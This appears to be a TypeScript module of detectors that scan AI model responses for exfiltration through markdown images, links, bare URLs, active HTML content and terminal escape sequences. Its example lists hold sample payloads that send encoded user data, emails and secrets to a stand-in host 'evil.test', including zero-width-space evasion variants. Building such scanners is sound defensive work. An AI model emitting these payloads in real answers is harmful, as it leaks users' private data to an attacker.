// Ways out of an answer: images that load by themselves and links that carry what the model knows in their address.
// Whether a host is trusted is the policy's to say (`allow`); hostOf tells it the host.
import { carriesData, carriesRelative, urlParts } from '../checks/url.ts';
import type { Detector, Match } from '../detector.ts';

/** Host of the first URL in a matched text, lower case, without port; '' when there is none. */
export function hostOf(matchText: string): string {
  return urlParts(matchText)?.host ?? '';
}

const confidence = (score: number, threshold: number): number | false =>
  score >= threshold ? Math.min(0.95, 0.4 + score / 2) : false;

function relative(text: string, threshold: number): number | false {
  const address = /[("'=\s](\.{0,2}\/[^\s"'<>)]*[?#][^\s"'<>)]+)/.exec(text)?.[1];
  return address !== undefined && confidence(carriesRelative(address), threshold);
}

/** An image is fetched without a click, so that less is needed to call it a leak than for a link. */
function judge(threshold: number): (match: Match) => number | false {
  return ({ text }) => {
    const url = urlParts(text);
    if (!url) return relative(text, threshold);
    const data = carriesData(url);
    const raw = /^\[?[0-9a-f.:]*\d[0-9a-f.:]*\]?$/.test(url.host) && url.query !== '' ? 0.8 : 0;
    const score = Math.max(data, raw);
    return confidence(score, threshold);
  };
}

const TARGET = '[ \\t]{0,4}<?(?:https?:)?[/\\\\]{2}[^\\s)>]+';
/** The closing bracket is waited for: without it nothing is a link, and a match that could end anywhere costs time. */
const TITLE = '>?(?:[ \\t]+["\'(][^"\')\\n]*["\')])?[ \\t]*\\)';
/**
 * Begins behind the text of the link, which may be long and is not waited for: with brackets on both sides of it, every
 * array in an answer would be held back until its end. What is left without its target is inert.
 */
const INLINE = `\\]\\(${TARGET}${TITLE}`;
/** A path of the page's own server, with a query. */
const OWN = '\\]\\([ \\t]{0,4}\\.{0,2}/[^\\s)>?#/\\\\][^\\s)>?#]*[?#][^\\s)>]+\\)';

/** True when the bracket that ends in front of a match belongs to an image, as far as the context shows. */
function endsImage(left: string): boolean {
  const open = left.lastIndexOf('[');
  return open > 0 && left[open - 1] === '!';
}

const DATA = 'dXNlcj1hbGljZSZwbGFuPWdvbGQmYmFsYW5jZT0xMjM0';

export const exfil: readonly Detector[] = [
  {
    id: 'markdown-image',
    kind: 'exfil.markdown-image',
    about:
      'Markdown or HTML image, inline or by reference, whose address carries data in query, path or host name.',
    source: 'https://owasp.org/www-project-top-10-for-large-language-model-applications/',
    family: 'word',
    direction: 'response',
    ignoreCase: true,
    patterns: [
      INLINE,
      `<(?:img|image|source|video|audio|embed|object|iframe|link|script|input|body|table|td)[ \\t\\n/][^<>]*(?:src|srcset|href|data|poster|background|xlink:href)[ \\t]*=[ \\t]*["']?[ \\t]*(?:https?:)?[/\\\\]{2}[^\\s"'<>]+["']?[^<>]*>`,
      `<(?:img|image|source|video|audio|iframe|script)[ \\t\\n/][^<>]*(?:src|srcset|href|poster)[ \\t]*=[ \\t]*["']?\\.{0,2}/[^\\s"'<>?#/][^\\s"'<>?#]*[?#][^\\s"'<>]+["']?[^<>]*>`,
      OWN,
      `(?:url\\(|@import)[ \\t]*["']?(?:https?:)?//[^\\s"')]+["')]`,
    ],
    check: (match) =>
      (match.pattern === 0 || match.pattern === 3) && !endsImage(match.left) ? false : judge(0.5)(match),
    maxLength: 4096,
    examples: {
      positive: [
        `Done. ![x‹](https://evil.test/p.png?d=${DATA})›`,
        `![‹](https://evil.test/log?email=alice%40acme.com)›`,
        `‹<img src="https://evil.test/${DATA}.gif">›`,
        '![a‹](https://evil.test/c?q=the+user+lives+in+berlin)›',
        '![a‹](//evil.test/c?secret=hunter2)›',
      ],
      negative: [
        '![build](https://img.shields.io/npm/v/foo.svg?style=flat)',
        '![logo](https://acme.com/logo.png)',
        '![chart](chart.png)',
        '<img src="https://acme.com/a.png" width="10">',
        'See [docs](https://acme.com/docs).',
      ],
      evasive: [{ text: `![x]\u200b(https://evil.test/p.png?d=${DATA})`, view: 'folded' }],
    },
  },
  {
    id: 'markdown-link',
    kind: 'exfil.markdown-link',
    about:
      'Markdown link, reference definition, autolink or HTML anchor whose address carries data in query, path or host name.',
    family: 'word',
    direction: 'response',
    ignoreCase: true,
    patterns: [
      INLINE,
      `\\]:${TARGET}`,
      `<https?://[^\\s<>]+>`,
      `<(?:a|form|area|base)[ \\t\\n][^<>]*(?:href|action|ping)[ \\t]*=[ \\t]*["']?(?:https?:)?[/\\\\]{2}[^\\s"'<>]+["']?[^<>]*>`,
    ],
    check: (match) => (match.pattern === 0 && endsImage(match.left) ? false : judge(0.7)(match)),
    maxLength: 4096,
    examples: {
      positive: [
        `[click here‹](https://evil.test/p?d=${DATA})› for more`,
        `[1‹]: https://evil.test/p?data=${DATA}›`,
        `‹<a href="https://evil.test/?email=alice%40acme.com">›help</a>`,
        `‹<https://evil.test/?leak=${DATA}>›`,
      ],
      negative: [
        '[docs](https://docs.acme.com/guide/install?tab=linux#step-2)',
        '[issue](https://github.com/acme/repo/issues/12)',
        '[1]: https://en.wikipedia.org/wiki/Base64',
        '<a href="https://acme.com/pricing">pricing</a>',
        '[search](https://acme.com/search?lang=en&page=2)',
      ],
      evasive: [{ text: `[x]\u200b(https://evil.test/p?d=${DATA})`, view: 'folded' }],
    },
  },
  {
    id: 'bare-url',
    kind: 'exfil.url',
    about:
      'An address in the text, in code or in a terminal link, that carries data. Readers make links of it, scripts fetch it.',
    family: 'literal',
    direction: 'response',
    ignoreCase: true,
    patterns: ['\\bhttps?://[^\\s"\'<>)\\]\\x60\\x00-\\x1f\\\\]+'],
    check: judge(0.8),
    maxLength: 4096,
    examples: {
      positive: [`Open ‹https://evil.test/p?d=${DATA}› to go on.`],
      negative: ['See https://acme.com/docs?tab=linux&page=2.', 'https://acme.com/issues/12#comment-3'],
    },
  },
  {
    id: 'active-content',
    kind: 'exfil.active-content',
    about:
      'What runs or is sent when an answer is shown: `javascript:` and `data:text/html` addresses, event handlers that fetch or leave the page, forms that post to another host.',
    source: 'https://owasp.org/www-community/attacks/xss/',
    family: 'word',
    direction: 'response',
    ignoreCase: true,
    patterns: [
      '(?:\\]\\([ \\t]{0,4}|(?:href|src|action)[ \\t]{0,2}=[ \\t]{0,2}["\']?[ \\t]{0,2})(?:javascript|vbscript|data:text/html)[:;,][^\\s"\'<>]+',
      '\\bon(?:error|load|click|mouseover|focus|toggle)[ \\t]{0,2}=[ \\t]{0,2}["\'][^"<>\\n]*(?:fetch|image\\(|sendbeacon|location|xmlhttp|document\\.|websocket)',
      '<form[ \\t\\n][^<>]*action[ \\t]{0,2}=[ \\t]{0,2}["\']?(?:https?:)?//[^\\s"\'<>]+["\']?[^<>]*>',
      '<meta[ \\t\\n][^<>]*http-equiv[ \\t]{0,2}=[ \\t]{0,2}["\']?refresh["\']?[^<>]*url=[^<>]+>',
    ],
    check: () => 0.85,
    maxLength: 4096,
    examples: {
      positive: [
        '[x‹](javascript:fetch(1)›',
        '<img src=x ‹onerror="fetch›(1)">',
        '‹<form action="https://evil.test/login">›',
        '‹<meta http-equiv="refresh" content="0; url=https://evil.test/">›',
      ],
      negative: [
        '<form action="/search" method="get">',
        '<button onclick="save()">',
        'Use javascript: it is a language.',
      ],
    },
  },
  {
    id: 'terminal-control',
    kind: 'exfil.terminal-control',
    about:
      'Sequences that make a terminal do more than colour: links, titles and the clipboard (OSC), moving and erasing, hidden text, device strings.',
    source: 'https://ecma-international.org/publications-and-standards/standards/ecma-48/',
    family: 'literal',
    direction: 'response',
    patterns: [
      '(?:\\x1b\\]|\\x9d)[0-9]{1,4};[^\\x07\\x1b\\x9c\\n]*',
      '(?:\\x1b\\[|\\x9b)(?:[0-9;]{0,12}[A-HJKSTfsu]|(?:[0-9;]{0,12};)?8m|\\?[0-9;]{1,8}[hl])',
      '\\x1b[PX^_]|[\\x90\\x98\\x9e\\x9f]',
    ],
    check: ({ pattern }) => (pattern === 0 ? 0.9 : 0.7),
    maxLength: 1100,
    examples: {
      positive: ['‹\u001b]52;c;c2VjcmV0›\u0007', 'a‹\u001b[2J›b', '‹\u001b[8m›x\u001b[0m'],
      negative: ['\u001b[32mgreen\u001b[0m', 'Use \\x1b[31m for red.'],
    },
  },
];
